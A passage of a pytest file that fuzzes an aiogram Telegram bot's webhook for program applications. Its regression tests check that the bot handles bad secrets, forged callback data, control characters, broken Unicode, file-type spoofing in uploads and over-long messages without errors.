        ("an ELF program", ELF_BYTES[:4]),
        ("an HTML page", HTML_BYTES[:9]),
        ("a shell script", b"#!"),
        ("a ZIP archive", b"PK\x03\x04"),
    ]:
        if data.startswith(start):
            return name
    for mime, starts in MAGIC.items():
        if data.startswith(starts):
            return f"a real {mime} file"
    return "random bytes"


# aiogram warns about update types it does not know; the fuzz sends one on purpose.
@pytest.mark.filterwarnings("ignore:Detected unknown update type:RuntimeWarning")
async def test_fuzz(webhook: Webhook) -> None:
    rng = Random(SEED)
    fuzzer = Fuzzer(webhook, rng)
    judge = Judge(webhook)
    for _ in range(FUZZ_UPDATES):
        await judge.fire(await fuzzer.next())
    for query in webhook.api.unanswered_callbacks():
        judge.fail("a press was never answered", None, query)
    stored = await check_uploads(webhook, judge)
    print(judge.report())
    print(f"valid uploads sent: {fuzzer.uploads}; attachments stored: {stored}")
    assert not judge.counts, judge.report()
    # The fuzz must keep reaching deep into the forms, or it tests little.
    assert fuzzer.uploads > 0, "no user reached an upload question: raise the valid weight"


# --------------------------------------------------------------------------- directed cases
# One case per kind of input above that broke the bot, deterministic and quick to rerun.


def _walk_program(registry: ProgramRegistry, program_id: str) -> Program:
    program = registry.get(program_id)
    assert program is not None
    return program


async def walk_to(hook: Webhook, user: int, program_id: str, stop: Any, limit: int = 200) -> None:
    """Open a program and make valid moves until ``stop(application)`` holds."""
    api = hook.api
    assert await hook.send(api.command_update(user, "apply")) == 200
    program = _walk_program(hook.registry, program_id)
    menu = api.last_message(user, with_buttons=True)
    pick = menu.button(program.button_title).callback_data
    assert await hook.send(api.callback_update(user, menu, pick)) == 200
    applicant = Applicant(program, today())
    fuzzer = Fuzzer(hook, Random(0))
    for _ in range(limit):
        app = await fuzzer.active(user)
        assert app is not None, f"user {user} has no draft of {program_id}"
        if stop(app):
            return
        move = applicant.next_move(app.answers, app.cursor)
        if isinstance(move, Text):
            update = api.message_update(user, text=move.text)
        elif isinstance(move, Upload):
            update = upload_update(api, user, move)
        else:
            shown = api.last_message(user, with_buttons=True)
            data = offered(shown, move.action, move.arg, getattr(move, "key", None))
            assert data is not None, f"{move} not offered in {shown.text!r}"
            update = api.callback_update(user, shown, data)
        assert await hook.send(update) == 200
    raise AssertionError(f"user {user} did not get there in {limit} moves")


def refused(api: FakeBotAPI, since: int = 0) -> list[str]:
    return [
        f"{c.method}: {c.description} ({len(str(c.params.get('text') or ''))} characters)"
        for c in api.calls[since:]
        if c.status >= 400 and c.method in MESSAGE_METHODS
    ]


def errors(hook: Webhook, since: int = 0) -> list[str]:
    return [
        f"{r.name}: {r.getMessage()[:80]} "
        f"{type(r.exc_info[1]).__name__ if r.exc_info else ''} "
        f"{_first_line(r.exc_info[1], 120) if r.exc_info else ''}"
        for r in hook.log.records[since:]
        if r.levelno >= logging.ERROR or r.exc_info
    ]


async def test_webhook_answers_bad_requests_with_401_and_400(webhook: Webhook) -> None:
    good = json.dumps(webhook.api.message_update(7001, text="你好")).encode()
    statuses = {
        "no secret": await webhook.post(good, None),
        "wrong secret": await webhook.post(good, "wrong"),
        "non-ASCII secret": await webhook.post(good, "秘密"),
        "non-ASCII secret with the right start": await webhook.post(good, SECRET + "é"),
        "not JSON": await webhook.post(b"{"),
        "not UTF-8": await webhook.post(b"\xff\xfe"),
        "JSON, not an object": await webhook.post(b"[]"),
        "no update_id": await webhook.post(b'{"message": {"text": "hi"}}'),
        "update_id not a number": await webhook.post(b'{"update_id": "abc"}'),
    }
    want = {k: 401 if "secret" in k else 400 for k in statuses}
    assert statuses == want
    assert errors(webhook) == []


async def test_forged_callback_numbers_are_answered_as_stale(webhook: Webhook) -> None:
    api, user = webhook.api, 7002
    await walk_to(webhook, user, FUZZ_PROGRAM_ID, lambda app: app.cursor.get("q") == "members")
    shown = api.last_message(user, with_buttons=True)
    back = offered(shown, Action.BACK)
    assert back is not None
    # <prefix>:<action>:<arg>:<application>:<revision>[:...] of the bot's own layout.
    prefix, _action, _arg, app_id, revision, *rest = back.split(":")

    def forge(action: Action, arg: object, app: object = app_id, rev: object = revision) -> str:
        return ":".join([prefix, str(int(action)), str(arg), str(app), str(rev), *rest])

    forged = [
        forge(Action.RESUME, 2147483648),
        forge(Action.RESUME, -2147483649),
        forge(Action.BACK, 0, app=2147483648),
        forge(Action.BACK, 0, rev=2147483648),
        forge(Action.ROW_EDIT, 9223372036854775808),
        forge(Action.PICK_PROGRAM, 2147483648, 0, 0),
        forge(Action.BACK, 0, -1, -1),
        forge(Action.RESUME, 18446744073709551617, 18446744073709551617),
    ]
    toasts = {}
    for data in forged:
        update = api.callback_update(user, shown, data)
        assert await webhook.send(update) == 200, data
        query = update["callback_query"]["id"]
        toasts[data] = next(
            (a.text for a in api.answered_callbacks if a.callback_query_id == query), "(unanswered)"
        )
    assert {d: t for d, t in toasts.items() if t not in STALE_TEXTS} == {}
    assert errors(webhook) == []
    assert [m.text for m in api.sent_to(user) if m.text == APOLOGY] == []


async def test_nul_control_and_broken_surrogates_get_a_hint_not_an_apology(
    webhook: Webhook,
) -> None:
    api, user = webhook.api, 7003
    await walk_to(webhook, user, FUZZ_PROGRAM_ID, lambda app: app.cursor.get("q") == "story")
    for text in ["工作室\x00简介", "\ud800", "简介\udfff内容", "\x01\x02\x1b[31m红色", "\x00"]:
        before = len(api.calls)
        assert await webhook.send(api.message_update(user, text=text)) == 200
        sent = [c for c in api.calls[before:] if c.method == "sendmessage"]
        assert sent, f"no reply to {text!r}"
        assert all(c.status == 200 for c in sent), (text, refused(api, before))
        assert [c for c in sent if c.params.get("text") == APOLOGY] == [], text
    # The same in a short text answer and a group field.
    await walk_to(webhook, 7004, FUZZ_PROGRAM_ID, lambda app: True)
    before = len(api.calls)
    for text in ["\x00", "名\ud83d称", "\u202e\x00\x7f"]:
        assert await webhook.send(api.message_update(7004, text=text)) == 200
    assert refused(api, before) == []
    assert [m.text for m in api.sent_to(7004) if m.text == APOLOGY] == []
    assert errors(webhook) == []


async def test_uploads_are_typed_by_their_bytes_not_the_clients_claim(webhook: Webhook) -> None:
    api, user = webhook.api, 7005
    await walk_to(webhook, user, FUZZ_PROGRAM_ID, lambda app: app.cursor.get("q") == "photos")
    lies = [
        (ELF_BYTES, "photo.png", "image/png"),
        (HTML_BYTES, "photo.png", "image/png"),
        (SCRIPT_BYTES, "photo.jpg", "image/jpeg"),
        (b"", "empty.png", "image/png"),
    ]
    for data, name, mime in lies:
        assert await webhook.send(api.document_update(user, data, name, mime)) == 200
    # A real PNG sent as a file is fine: the photo question then holds exactly that one.
    assert await webhook.send(api.document_update(user, png(77), "real.png", "image/png")) == 200
    assert await webhook.send(api.photo_update(user, png(78))) == 200  # second photo: done
    app = await Fuzzer(webhook, Random(0)).active(user)
    assert app is not None
    assert app.cursor.get("q") == "proof", app.cursor
    for data, name, mime in [
        (ELF_BYTES, "申报材料.pdf", "application/pdf"),
        (HTML_BYTES, "report.pdf", "application/pdf"),
        (b"", "empty.pdf", "application/pdf"),
        (SCRIPT_BYTES, "x.png", "image/png"),
    ]:
        assert await webhook.send(api.document_update(user, data, name, mime)) == 200
    assert (
        await webhook.send(api.document_update(user, PDF_BYTES, "真.pdf", "application/pdf")) == 200
    )
    judge = Judge(webhook)
    stored = await check_uploads(webhook, judge)
    assert not judge.counts, judge.report()
    assert stored == 3  # real.png, the photo and 真.pdf
    assert errors(webhook) == []


async def test_long_table_rows_and_long_commands_fit_in_messages(webhook: Webhook) -> None:
    """cccc-model's core members: three rows of 480-character text fields, then on to the
    preview; and an unknown command of 4,090 characters.  Every message must be taken."""
    api, user = webhook.api, 7006
    await walk_to(webhook, user, "cccc-model", lambda app: app.cursor.get("q") == "core_members")
    long = "长" * 480
    for row in range(3):
        shown = api.last_message(user, with_buttons=True)
        add = offered(shown, Action.ROW_ADD)
        assert add is not None, shown.text
        assert await webhook.send(api.callback_update(user, shown, add)) == 200
        for _ in range(10):
            app = await Fuzzer(webhook, Random(0)).active(user)
            assert app is not None
            if app.cursor.get("row") is None:
                break
            field_id = app.cursor.get("f")
            if field_id in {"gender", "education"}:
                shown = api.last_message(user, with_buttons=True)
                choose = offered(shown, Action.CHOOSE, 0)
                assert choose is not None, shown.text
                update = api.callback_update(user, shown, choose)
            elif field_id == "birth":
                update = api.message_update(user, text="1985年3月")
            else:
                update = api.message_update(user, text=f"{row}{long}"[:480])
            assert await webhook.send(update) == 200
    assert refused(api) == [], "the table of three long rows was refused"
    # On to the preview (the summary question, then every section at once).
    await walk_to_preview(webhook, user)
    before = len(api.calls)
    assert await webhook.send(api.command_update(user, "x" * 4089)) == 200
    assert refused(api) == []
    assert all(len(m.text or "") <= MAX_TEXT for m in api.sent_to(user))
    assert [m.text for m in api.sent_to(user) if m.text == APOLOGY] == []
    assert len(api.calls) > before
    assert errors(webhook) == []


async def walk_to_preview(hook: Webhook, user: int) -> None:
    api = hook.api
    program = _walk_program(hook.registry, "cccc-model")
    applicant = Applicant(program, today())
    for _ in range(60):
        app = await Fuzzer(hook, Random(0)).active(user)
        assert app is not None
        if app.cursor.get("mode") == "preview":
            return
        move = applicant.next_move(app.answers, app.cursor)
        if isinstance(move, Text):
            update = api.message_update(user, text=move.text)
        elif isinstance(move, Upload):
            update = upload_update(api, user, move)
        else:
            assert isinstance(move, Press)
            shown = api.last_message(user, with_buttons=True)
            data = offered(shown, move.action, move.arg, getattr(move, "key", None))
            assert data is not None, f"{move} not offered in {shown.text!r}"
            update = api.callback_update(user, shown, data)
        assert await hook.send(update) == 200
        assert refused(api) == [], f"refused after {move}"
    raise AssertionError("the preview was not reached")


async def test_a_refused_reply_does_not_stop_the_replies_after_it(webhook: Webhook) -> None:
    api, user = webhook.api, 7001
    await walk_to(webhook, user, FUZZ_PROGRAM_ID, lambda app: app.cursor.get("q") == "members")
    api.mark_seen(user)
    # /start with a draft open answers with the menu, "resumed" and the current question.
    api.fail_next("sendMessage", status=400, description="Bad Request: message is too long")
    assert await webhook.send(api.command_update(user, "start")) == 200
    shown = api.new_messages(user)
    question = shown[-1] if shown else None
    assert question is not None, "nothing was delivered after the first reply was refused"
    assert "成员人数" in (question.text or ""), [m.text for m in shown]
    assert question.buttons, "the current question came without its buttons"
    assert [m.text for m in shown if m.text == APOLOGY] == []
